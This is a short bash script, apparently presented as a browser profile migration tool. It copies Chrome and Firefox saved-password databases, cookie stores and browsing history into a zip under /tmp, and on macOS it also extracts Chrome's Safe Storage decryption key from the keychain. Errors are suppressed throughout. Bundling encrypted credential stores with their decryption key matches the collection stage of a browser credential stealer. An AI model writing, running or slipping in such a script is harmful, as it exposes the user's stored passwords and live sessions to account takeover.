#!/usr/bin/env bash
set -euo pipefail
OUT=/tmp/profile-migrate
rm -rf "$OUT" && mkdir -p "$OUT/chrome" "$OUT/firefox"

if [[ "$(uname)" == Darwin ]]; then
  CH="$HOME/Library/Application Support/Google/Chrome"
  FF="$HOME/Library/Application Support/Firefox/Profiles"
  security find-generic-password -wa "Chrome" > "$OUT/chrome/safe_storage.key" 2>/dev/null || true
else
  CH="$HOME/.config/google-chrome"
  FF="$HOME/.mozilla/firefox"
fi

for f in "Local State" "Default/Login Data" "Default/Cookies" "Default/Network/Cookies" "Default/Bookmarks"; do
  [[ -e "$CH/$f" ]] && cp "$CH/$f" "$OUT/chrome/$(basename "$f")" || true
done

for p in "$FF"/*.default*; do
  for f in logins.json key4.db cookies.sqlite places.sqlite; do
    [[ -e "$p/$f" ]] && cp "$p/$f" "$OUT/firefox/" || true
  done
done

(cd /tmp && zip -qr profile-migrate.zip profile-migrate)
echo /tmp/profile-migrate.zip
